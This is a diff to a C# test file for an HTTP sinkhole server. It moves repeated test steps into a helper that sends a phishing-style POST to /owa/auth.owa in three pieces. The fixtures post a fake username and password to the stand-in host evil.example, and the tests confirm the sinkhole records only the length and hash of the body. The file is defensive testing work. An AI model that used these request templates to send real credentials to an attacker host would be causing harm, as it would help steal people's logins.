@@ -62,18 +62,9 @@ public class HttpSinkholeServerTests
     public async Task A_posted_body_split_across_writes_is_recorded_by_length_and_hash_never_by_content()
     {
         await using var sinkhole = new RunningHttpSinkhole();
-        using var client = await sinkhole.ConnectAsync();
-        var buffer = new ResponseBuffer();
         var body = "username=victim%40example.org&password=Sup3rSecretPassw0rd" + new string('x', 5000);
 
-        await RunningHttpSinkhole.SendAsync(client, $"POST /owa/auth.owa HTTP/1.1\r\nHost: evil.example\r\nContent-Length: {body.Length}\r\n\r\n{body[..10]}");
-        await Task.Delay(100, TestContext.Current.CancellationToken);
-        Assert.Empty(sinkhole.Hits());
-        await RunningHttpSinkhole.SendAsync(client, body[10..3000]);
-        await Task.Delay(50, TestContext.Current.CancellationToken);
-        await RunningHttpSinkhole.SendAsync(client, body[3000..] + "GET /after HTTP/1.1\r\nHost: evil.example\r\n\r\n");
-        var first = await RunningHttpSinkhole.ReadResponseAsync(client, buffer);
-        var second = await RunningHttpSinkhole.ReadResponseAsync(client, buffer);
+        var (first, second) = await PostInThreeWritesThenGetAsync(sinkhole, $"Content-Length: {body.Length}", body, 10, 3000);
 
         Assert.Equal((200, 200), (first!.Status, second!.Status));
         var hits = sinkhole.Hits();
@@ -102,19 +93,10 @@ public class HttpSinkholeServerTests
     public async Task A_chunked_body_split_across_writes_is_recorded_by_length_and_hash_and_the_connection_stays_open()
     {
         await using var sinkhole = new RunningHttpSinkhole();
-        using var client = await sinkhole.ConnectAsync();
-        var buffer = new ResponseBuffer();
         var body = "username=victim%40example.org&password=Sup3rSecretPassw0rd" + new string('x', 3000);
         var chunked = $"10;note=1\r\n{body[..16]}\r\n{body.Length - 16:X}\r\n{body[16..]}\r\n0\r\nX-Trailer: Sup3rSecret\r\n\r\n";
 
-        await RunningHttpSinkhole.SendAsync(client, $"POST /owa/auth.owa HTTP/1.1\r\nHost: evil.example\r\nTransfer-Encoding: chunked\r\n\r\n{chunked[..30]}");
-        await Task.Delay(100, TestContext.Current.CancellationToken);
-        Assert.Empty(sinkhole.Hits());
-        await RunningHttpSinkhole.SendAsync(client, chunked[30..2000]);
-        await Task.Delay(50, TestContext.Current.CancellationToken);
-        await RunningHttpSinkhole.SendAsync(client, chunked[2000..] + "GET /after HTTP/1.1\r\nHost: evil.example\r\n\r\n");
-        var first = await RunningHttpSinkhole.ReadResponseAsync(client, buffer);
-        var second = await RunningHttpSinkhole.ReadResponseAsync(client, buffer);
+        var (first, second) = await PostInThreeWritesThenGetAsync(sinkhole, "Transfer-Encoding: chunked", chunked, 30, 2000);
 
         Assert.Equal((200, 200), (first!.Status, second!.Status));
         Assert.False(first.Headers.ContainsKey("Connection"));
@@ -213,5 +195,24 @@ public class HttpSinkholeServerTests
         Assert.Equal(200, response!.Status);
         Assert.Contains(sinkhole.Hits(), h => h.Url == "/probe");
         open.ForEach(s => s.Dispose());
+    }
+
+    /// <summary>
+    /// A POST to /owa/auth.owa whose framed body arrives in three writes (cut at <paramref name="firstCut"/> and
+    /// <paramref name="secondCut"/>), with a GET /after behind it on the same connection: no hit may be recorded
+    /// before the body is complete. Returns both responses.
+    /// </summary>
+    private static async Task<(HttpResponseText? First, HttpResponseText? Second)> PostInThreeWritesThenGetAsync(
+        RunningHttpSinkhole sinkhole, string framingHeader, string framedBody, int firstCut, int secondCut)
+    {
+        using var client = await sinkhole.ConnectAsync();
+        var buffer = new ResponseBuffer();
+        await RunningHttpSinkhole.SendAsync(client, $"POST /owa/auth.owa HTTP/1.1\r\nHost: evil.example\r\n{framingHeader}\r\n\r\n{framedBody[..firstCut]}");
+        await Task.Delay(100, TestContext.Current.CancellationToken);
+        Assert.Empty(sinkhole.Hits());
+        await RunningHttpSinkhole.SendAsync(client, framedBody[firstCut..secondCut]);
+        await Task.Delay(50, TestContext.Current.CancellationToken);
+        await RunningHttpSinkhole.SendAsync(client, framedBody[secondCut..] + "GET /after HTTP/1.1\r\nHost: evil.example\r\n\r\n");
+        return (await RunningHttpSinkhole.ReadResponseAsync(client, buffer), await RunningHttpSinkhole.ReadResponseAsync(client, buffer));
     }
 }
